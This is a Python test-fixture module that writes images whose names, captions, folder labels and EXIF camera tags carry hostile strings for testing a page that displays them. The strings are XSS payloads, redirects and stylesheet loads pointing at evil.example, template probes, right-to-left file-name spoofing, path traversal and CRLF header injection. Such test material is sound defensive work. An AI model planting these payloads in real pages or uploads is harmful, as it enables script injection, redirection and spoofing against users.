"""Images whose names, captions, labels and cameras attack the page that shows them."""

from dataclasses import dataclass
from io import BytesIO
from pathlib import Path

from PIL import Image

ALERT = "alert(1)"
IMAGE_TAG = f'"><img src=x onerror={ALERT}>'
LONG = "long" * 60  # a file name has 255 bytes at most
# Each becomes a file name, where "/" and NUL cannot be, and a caption as it is.
WORDS = (
    f"<script>{ALERT}</script>",
    IMAGE_TAG,
    f"'><img src=x onerror={ALERT}>",
    f'" onmouseover="{ALERT}" x="',
    f"' onfocus='{ALERT}' autofocus='",
    f"<svg onload={ALERT}>",
    f"<svg><script>{ALERT}</script></svg>",
    f"<iframe srcdoc='<script>parent.{ALERT}</script>'></iframe>",
    f"<iframe src=javascript:{ALERT}></iframe>",
    f"<a href=javascript:{ALERT}>x</a>",
    f"javascript:{ALERT}",
    f"data:text/html,<script>{ALERT}</script>",
    f"<body onload={ALERT}>",
    f"<details open ontoggle={ALERT}>",
    f"<video><source onerror={ALERT}></video>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={ALERT}>",
    f"<noscript><p title='</noscript><img src=x onerror={ALERT}>'>",
    f"<template><img src=x onerror={ALERT}></template>",
    f"</title><script>{ALERT}</script>",
    f"</textarea><script>{ALERT}</script>",
    f"<!--<script>{ALERT}</script>-->",
    f"]]><script>{ALERT}</script>",
    "<base href=http://evil.example>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<style>@import url(http://evil.example/x.css);</style>",
    "<form action=http://evil.example><button>Search</button></form>",
    "http://evil.example/x.png",
    "//evil.example/x.png",
    "{{ 7*7 }} {% raw %} ${7*7}",
    "&lt;script&gt; &amp;amp; &#60;b&#62;",
    "\u202egnp.exe\u202c reversed",
    "\u2066isolated\u2067\u2069",
    "line\nfeed\r and\ttab",
    "bell\x07 escape\x1b[31m delete\x7f",
    "zero\u200bwidth\ufeff\u00ad",
    "e" + "\u0301" * 80 + " zalgo",
    "..\\..\\windows & C: CON",
    "%2e%2e%2f%00%0d%0aSet-Cookie: a=b?q=1&like=2#x",
    LONG,
)
CAMERA = f"<img src=x onerror={ALERT}> & 'Co' | \"x\""
EXIF_MODEL, EXIF_TIME = 0x0110, 0x9003
SIDE = 32
LABELS = ("<b onclick=alert(1)>bold", "a|b 'c' \"d\"", "plain")


@dataclass(frozen=True, slots=True)
class HostileImage:
    path: str  # below the folder that is ingested
    caption: str


def list_images() -> list[HostileImage]:
    """In LABELS by turns, each with its own words as name and caption."""
    return [
        HostileImage(f"{LABELS[index % len(LABELS)]}/{make_name(words, index)}", words)
        for index, words in enumerate(WORDS)
    ]


def make_name(words: str, index: int) -> str:
    """A file name of the words: without the two characters that no file name has."""
    kept = words.replace("/", "\u2215").encode()[:200].decode("utf-8", "ignore")
    return f"{index:02} {kept}{'.jpg' if index % 2 else '.png'}"


def write_images(folder: Path) -> list[HostileImage]:
    """Also a thumbnail's worth of EXIF in every JPEG file: a hostile camera, and years from 2001 on."""
    images = list_images()
    for index, image in enumerate(images):
        file = folder / image.path
        file.parent.mkdir(exist_ok=True)
        file.write_bytes(make_picture(index))
        file.with_suffix(".txt").write_text(image.caption, encoding="utf-8", newline="")
    return images


def make_picture(index: int) -> bytes:
    picture = Image.new("RGB", (SIDE, SIDE), (index * 37 % 256, index * 91 % 256, index * 5 % 256))
    picture.paste((255, 255, 255), (0, 0, SIDE // 2, 1 + index % SIDE))
    out = BytesIO()
    if index % 2 == 0:
        picture.save(out, "PNG")
        return out.getvalue()
    exif = Image.Exif()
    exif[EXIF_MODEL] = CAMERA if index % 3 else "Plain 100"
    exif.get_ifd(0x8769)[EXIF_TIME] = f"20{index % 9:02}:01:02 03:04:05"
    picture.save(out, "JPEG", quality=90, exif=exif)
    return out.getvalue()
